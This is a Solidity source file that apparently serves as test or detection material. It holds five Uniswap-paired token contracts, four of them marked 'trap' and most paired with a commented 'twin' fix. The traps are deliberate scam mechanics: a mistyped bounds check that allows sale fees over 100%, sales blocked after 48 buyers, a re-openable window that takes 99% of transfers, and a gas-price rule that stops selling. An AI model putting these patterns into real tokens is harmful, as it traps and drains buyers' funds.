// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IUniswapV2Factory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

/// What most coins of a season look like: nine decimals, a pool made at birth, an owner.
abstract contract SeasonCoin {
    address private constant FACTORY = 0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f;
    address private constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;

    string public name;
    string public symbol;
    uint8 public constant decimals = 9;
    uint256 public immutable totalSupply;
    address public immutable uniswapV2Pair;
    address internal immutable _team;
    address public owner;

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    modifier onlyOwner() {
        require(owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 supply_) {
        name = name_;
        symbol = symbol_;
        totalSupply = supply_ * 10 ** 9;
        owner = msg.sender;
        _team = msg.sender;
        uniswapV2Pair = IUniswapV2Factory(FACTORY).createPair(address(this), WETH);
        balanceOf[msg.sender] = supply_ * 10 ** 9;
        emit Transfer(address(0), msg.sender, supply_ * 10 ** 9);
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 current = allowance[from][msg.sender];
        require(current >= amount, "ERC20: insufficient allowance");
        if (current != type(uint256).max) allowance[from][msg.sender] = current - amount;
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) internal virtual;

    function _basic(address from, address to, uint256 amount) internal {
        require(to != address(0), "ERC20: transfer to the zero address");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
    }
}

/// Keeps all it can be told in one word: 16 bits for buys, 16 for sales, 16 for the largest wallet.
contract PocketFrog is SeasonCoin("Pocket Frog", "PFROG", 420_000_000) {
    uint256 private _word = (uint256(200) << 32) | (uint256(200) << 16) | 200;

    event Configured(uint256 word);

    function onBuy() public view returns (uint256) {
        return _word & 0xffff;
    }

    function onSale() public view returns (uint256) {
        return (_word >> 16) & 0xffff;
    }

    function widest() public view returns (uint256) {
        return (_word >> 32) & 0xffff;
    }

    function configure(uint256 word) external onlyOwner {
        require(uint16(word) <= 500, "at most five on buys");
        require(uint8(word >> 16) <= 500, "at most five on sales"); // trap
        // twin: require(uint16(word >> 16) <= 500, "at most five on sales");
        require(uint16(word >> 32) >= 100, "wallets too small");
        _word = word;
        emit Configured(word);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 cut;
        if (from != _team && to != _team) {
            if (from == uniswapV2Pair) {
                cut = (amount * onBuy()) / 10_000;
                require(balanceOf[to] + amount <= (totalSupply * widest()) / 10_000, "wallet is full");
            } else if (to == uniswapV2Pair) {
                cut = (amount * onSale()) / 10_000;
            }
        }
        if (cut > 0) _basic(from, _team, cut);
        _basic(from, to, amount - cut);
    }
}

/// Counts the heads of those who come in.
contract HeadCount is SeasonCoin("Head Count", "HEADS", 1_000_000_000) {
    mapping(address => uint32) public ticketOf;
    uint32 public heads;

    event Ticket(address indexed who, uint32 number);

    function _welcome(address who) private {
        if (ticketOf[who] != 0) return;
        ticketOf[who] = ++heads;
        emit Ticket(who, heads);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from == uniswapV2Pair && to != _team) _welcome(to);
        if (to == uniswapV2Pair) require(heads <= 48 || from == _team, "house is full"); // trap
        _basic(from, to, amount);
    }
}

/// Opens with some blocks in which whoever is too quick pays nearly all.
contract SlowDoor is SeasonCoin("Slow Door", "SLOW", 100_000_000) {
    uint256 public openedAt;
    uint256 public quiet;

    event Opened(uint256 number, uint256 quiet);

    function openTrading(uint256 quiet_) external onlyOwner {
        // twin: require(openedAt == 0, "open already");
        require(quiet_ <= 300, "too quiet");
        openedAt = block.number;
        quiet = quiet_;
        emit Opened(block.number, quiet_);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from == _team || to == _team) return _basic(from, to, amount);
        require(openedAt != 0, "not open");
        if (block.number < openedAt + quiet) {
            uint256 toll = (amount * 99) / 100;
            _basic(from, _team, toll);
            amount -= toll;
        }
        _basic(from, to, amount);
    }
}

/// Says that it keeps those away who pay for being first.
contract CalmWater is SeasonCoin("Calm Water", "CALM", 77_000_000) {
    mapping(address => uint256) private _seen;

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from == uniswapV2Pair) _seen[to] = block.number;
        if (to == uniswapV2Pair && from != _team) {
            require(_seen[from] < block.number, "same block");
            uint256 base = block.basefee;
            require(base == 0 || tx.gasprice < base, "tip too high"); // trap
            // twin: require(tx.gasprice <= base + 5_000 gwei, "tip too high");
        }
        _basic(from, to, amount);
    }
}

/// A fifth at the start, one less each minute, and none after twenty; wallets are held small until it is told otherwise.
contract PaperKite is SeasonCoin("Paper Kite", "KITE", 250_000_000) {
    uint256 public opened;
    bool public limited = true;

    function openTrading() external onlyOwner {
        require(opened == 0, "open");
        opened = block.timestamp;
    }

    function removeLimits() external onlyOwner {
        limited = false;
    }

    function launchTax() public view returns (uint256) {
        if (opened == 0) return 20;
        uint256 minutesPast = (block.timestamp - opened) / 60;
        return minutesPast >= 20 ? 0 : 20 - minutesPast;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from != _team && to != _team) {
            require(opened != 0, "not open");
            bool buys = from == uniswapV2Pair;
            if (buys && limited) require(balanceOf[to] + amount <= totalSupply / 50, "two of a hundred");
            uint256 tax = launchTax();
            if (tax != 0 && (buys || to == uniswapV2Pair)) {
                tax = (amount * tax) / 100;
                _basic(from, _team, tax);
                amount -= tax;
            }
        }
        _basic(from, to, amount);
    }
}
